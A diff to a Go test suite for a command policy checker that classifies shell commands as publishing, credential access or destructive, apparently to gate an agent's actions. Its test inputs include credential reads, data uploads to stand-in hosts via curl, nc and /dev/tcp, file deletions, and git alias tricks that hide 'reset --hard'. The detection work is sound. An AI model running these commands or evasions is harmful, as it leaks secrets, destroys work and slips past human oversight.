@@ -245,6 +245,13 @@ func TestLossesInScripts(t *testing.T) {
 // TestCareful judges with the built-in rules for what loses work or leaves the machine.
 func TestCareful(t *testing.T) {
 	home, ws := project(t)
+	old := filepath.Join(ws, ".git/refs/heads/old")
+	if err := os.MkdirAll(filepath.Dir(old), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(old, nil, 0o600); err != nil {
+		t.Fatal(err)
+	}
 	p, opened := policy.New(policy.Rules{Careful: true}), policy.New(policy.Rules{})
 	for text, want := range map[string]string{
 		"git push": "publish", "git push --force origin main": "publish", "npm publish": "publish", "npm publish --access public": "publish", "docker push x/y": "publish", "gh pr create --fill": "publish", "gh release create v1": "publish", "cargo publish": "publish",
@@ -253,6 +260,17 @@ func TestCareful(t *testing.T) {
 		"cat .env": "credentials", "cat ~/.netrc": "credentials", "source .env": "credentials", "grep KEY < .env": "credentials", "gh auth token": "credentials", "cat ~/.ssh/id_rsa": "credentials", "cp .env x": "credentials", "base64 ~/.aws/credentials": "credentials",
 		"git checkout -- main.go": "discard-files", "git restore main.go": "discard-files", "git stash drop": "discard-files", "git stash clear": "discard-files", "git branch -D x": "discard-files", "git clean -fd src": "discard-files", "git reflog expire --all": "discard-files",
 		"git reset --hard": "discard-changes", "rm -rf *": "remove-workspace", "sudo ls": "privilege",
+		`terraform -chdir=x apply`: "publish", `terraform -chdir=x destroy -auto-approve`: "publish", `gh -R o/r pr create`: "publish", `gh --repo o/r release create v1`: "publish", `gh pr -R o/r create`: "publish", `docker --context x push y`: "publish", `docker -H tcp://h push y`: "publish", `docker compose -f x push`: "publish", `docker build --push -t y .`: "publish", `docker build -t y --push .`: "publish", `docker buildx bake --push`: "publish", `aws --region x s3 cp a s3://b`: "publish", `aws --profile p --region x s3 sync . s3://b`: "publish", `cargo +nightly publish`: "publish", `pnpm -r publish`: "publish", `pnpm --filter x publish`: "publish", `npm -w x publish`: "publish", `mvn -B clean deploy`: "publish", `./mvnw deploy`: "publish", `hg push`: "publish", `svn commit -m x`: "publish", `jj git push`: "publish", `hub push`: "publish", `pdm publish`: "publish", `maturin publish`: "publish", `cargo release`: "publish", `kubectl -n x cp a p:/b`: "publish", `gcloud storage cp a gs://b`: "publish", `az storage blob upload -f x`: "publish", `s3cmd put x s3://b`: "publish", `python3 -m twine upload x`: "publish", `ssh-copy-id h`: "publish", `curl -sd@f http://x.org/`: "publish", `curl -d@f http://x.org`: "publish", `curl -sT f http://x.org`: "publish", `curl -sF a=@f http://x.org`: "publish", `curl -sXPOST http://x.org/`: "publish", `curl -fsSLXPOST http://x.org`: "publish", `curl -sSX POST http://x.org`: "publish", `curl --data-bin @f http://x.org`: "publish", `curl --upload-f f http://x.org`: "publish", `curl --req PUT http://x.org`: "publish", `wget --post-f=x http://x.org`: "publish", `wget --method PUT http://x.org`: "publish", `http POST http://x.org`: "publish", `http http://x.org a=b`: "publish", `nc x.org 80`: "publish", `ncat x.org 80`: "publish", `telnet x.org`: "publish", `tftp x.org`: "publish", `socat - TCP:x.org:80`: "publish", `cat f > /dev/tcp/x.org/80`: "publish", `exec 3<>/dev/tcp/1.2.3.4/9`: "publish", `git push -onight`: "publish",
+		`terraform -chdir=x plan`: "", `gh -R o/r pr list`: "", `docker --context x ps`: "", `docker compose -f x up`: "", `docker build -t push .`: "", `docker run -it x push`: "", `aws --region x s3 ls`: "", `cargo +nightly build`: "", `pnpm -r build`: "", `pnpm --filter x test`: "", `mvn -B clean verify`: "", `./mvnw test`: "", `npm run -s publish-docs`: "", `svn status`: "", `hg pull`: "", `kubectl -n x get pods`: "", `curl -fsSL https://x.org -o f`: "", `curl --url https://x.org`: "", `curl -H 'X-Data: d' https://x.org`: "", `curl -oTd https://x.org`: "", `curl -sX GET https://x.org`: "", `curl -u d:T https://x.org`: "", `curl -I https://x.org`: "", `wget -q https://x.org`: "", `http https://x.org`: "", `http https://x.org q==a`: "", `nc -l 80`: "", `nc -z x.org 80`: "", `nc localhost 80`: "", `socat - TCP:localhost:80`: "", `socat TCP-LISTEN:80 -`: "", `echo x > /dev/tcp/127.0.0.1/80`: "", `git push -n`: "", `git push -fn`: "", `cargo test -- publish`: "",
+		"mv main.go /tmp": "delete", "mv main.go src /tmp/x": "delete", "mv -t /tmp main.go": "delete", "mv --target=/tmp main.go": "delete", "mv -ft/var/tmp main.go": "delete", "zip -m /tmp/x.zip main.go": "delete", "zip -rm x.zip src": "delete", "zip -r x.zip src": "", "mv new /tmp": "", "mv -t src main.go": "", "mv /tmp/x main.go": "", "mv build /tmp": "",
+		"git send-pack x master": "publish", "git-send-pack x master": "publish", "/usr/lib/git-core/git-send-pack x": "publish", "git http-push https://example.org": "publish", "git-push": "publish", "/usr/lib/git-core/git-reset --merge": "discard-files", "git-lfs": "", "git-status": "",
+		"git -c help.autocorrect=1 restor .": "discard-files", "git -c help.autocorrect=1 restor main.go": "discard-files", "git -c Help.AutoCorrect=immediate rset": "discard-files", "git -c help.autocorrect=1 status": "", "git -c include.path=x nuke": "discard-files", "git --config-env=alias.n=X n": "discard-files",
+		"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.n GIT_CONFIG_VALUE_0='reset --hard' git n": "discard-files", "export GIT_CONFIG_GLOBAL=x; git n": "discard-files", "env GIT_CONFIG_PARAMETERS=x git n": "discard-files", "GIT_CONFIG_GLOBAL=/dev/null git commit -m x": "", "GIT_CONFIG_NOSYSTEM=1 git n": "", "git n": "",
+		"git reset --merge": "discard-files", "git reset --keep HEAD~1": "discard-files", "git reset --mixed": "", "git checkout-index -f main.go": "discard-files", "git checkout-index main.go": "", "git ls-files | git checkout-index -f --stdin": "discard-files",
+		"git update-ref --stdin": "discard-files", "git update-ref refs/heads/old HEAD~1": "discard-files", "git update-ref refs/heads/new HEAD": "", "git branch -f old HEAD~1": "discard-files", "git branch -f new": "", "git branch -M new": "", "git branch -M new old": "discard-files", "git branch new": "",
+		"git prune --expire=now": "discard-files", "git prune": "discard-files", "git prune -n": "", "git prune --expire 2.weeks.ago": "", "git read-tree -u -m HEAD~1": "discard-files", "git read-tree --res HEAD": "discard-files", "git read-tree HEAD": "",
+		"git rebase --onto HEAD~1 HEAD": "discard-files", "git rebase --onto=HEAD~1 @": "discard-files", "git rebase --onto main topic": "", "git rebase main": "",
+		"rm .git/refs/heads/old": "delete", "rm -f .git/index.lock": "", "rm .git/refs/heads/none": "",
 		"git rm --f main.go": "discard-files", "git worktree remove --f wt": "discard-files", "git gc --pr=now": "discard-files", "git gc --prune=1.minute.ago": "discard-files", "git branch --d --f x": "discard-files", "tar cf x --remove-file main.go": "delete", "git gc --prune=2.weeks.ago": "", "git branch --format='%(refname)'": "", "git gc": "",
 		"rm -rf src": "delete", "rm main.go": "delete", "rm ~/notes": "delete", "find src -name a.go -delete": "delete", "find src -name '*.pyc' -delete": "", "find . -name __pycache__ -exec rm -rf {} +": "", "find src -name '*.go' -exec rm {} +": "delete", "find src -name '*.go'": "", "rm -rf ../other": "delete", "shred main.go": "delete", "truncate -s 0 main.go": "delete", "rm -rf src/*": "delete", "find src -delete": "delete",
 
@@ -272,6 +290,24 @@ func TestCareful(t *testing.T) {
 	x := execution(ws, "/usr/bin/git", "push", "origin")
 	if j := p.JudgeExecution(x); j.Effect != policy.Ask || !strings.Contains(j.Rule, "publish") {
 		t.Errorf("git push: %+v", j)
+	}
+	// What git executes for a push was judged with the push. What it executes for an alias was not.
+	for before, want := range map[string]policy.Effect{"git push": policy.Allow, "git -C x push": policy.Allow, "git p": policy.Ask, "git -c a.b=c p": policy.Ask} {
+		x := execution(ws, "/usr/lib/git-core/git", "send-pack", "x")
+		x.Before, x.BeforeArgs = "/usr/bin/git", strings.Fields(before)
+		if j := p.JudgeExecution(x); j.Effect != want {
+			t.Errorf("send-pack after %s: %s %s", before, j.Effect, j.Rule)
+		}
+		x.Before = filepath.Join(ws, "git-x")
+		if j := p.JudgeExecution(x); j.Effect != policy.Ask {
+			t.Errorf("send-pack by a program of the workspace: %s %s", j.Effect, j.Rule)
+		}
+	}
+	for settings, want := range map[bool]policy.Effect{true: policy.Ask, false: policy.Allow} {
+		x := execution(ws, "/usr/bin/git", "n")
+		if x.GitSettings = settings; p.JudgeExecution(x).Effect != want {
+			t.Errorf("an unknown command with settings %v: %+v", settings, p.JudgeExecution(x))
+		}
 	}
 	if j := p.JudgeExecution(execution(ws, "/usr/bin/cat", home+"/.netrc")); j.Effect != policy.Ask {
 		t.Errorf("cat: %+v", j)
@@ -296,6 +332,14 @@ func TestSessionsOwnFiles(t *testing.T) {
 	}
 	if req.Since = start; p.Judge(req).Effect != policy.Allow && policy.StoresBirth(ws) {
 		t.Errorf("a new directory: %+v", p.Judge(req))
+	}
+	stash := filepath.Join(ws, ".git/refs/stash")
+	if err := os.WriteFile(stash, nil, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	ref := command(t, ws, "rm .git/refs/stash")
+	if ref.Since = start; p.Judge(ref).Effect != policy.Ask {
+		t.Errorf("a new stash: %+v", p.Judge(ref))
 	}
 	req.Since = time.Now().Add(time.Hour)
 	if p.Judge(req).Effect != policy.Ask {
